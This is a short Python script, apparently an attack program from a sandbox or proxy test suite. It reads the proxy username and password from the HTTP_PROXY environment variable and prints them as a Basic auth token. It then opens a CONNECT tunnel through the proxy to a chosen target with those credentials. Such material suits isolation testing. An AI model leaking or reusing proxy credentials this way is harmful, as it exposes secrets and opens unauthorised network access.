"""Reveal the proxy's token to whoever reads the output; when told to go, connect as that reader tried to."""

from __future__ import annotations

import base64
import os
import socket
import sys
from urllib.parse import urlsplit

from support.attack_programs.outcome import proxy

if __name__ == "__main__":
    parts = urlsplit(os.environ["HTTP_PROXY"])
    token = base64.b64encode(f"{parts.username}:{parts.password}".encode()).decode()
    print(token, flush=True)
    if sys.stdin.readline():
        with socket.create_connection(proxy(), 20) as client:
            target = sys.argv[1]
            line = f"CONNECT {target} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {token}\r\n\r\n"
            client.sendall(line.encode())
            print(client.recv(65536).decode().splitlines()[0], flush=True)
    sys.stdin.read()
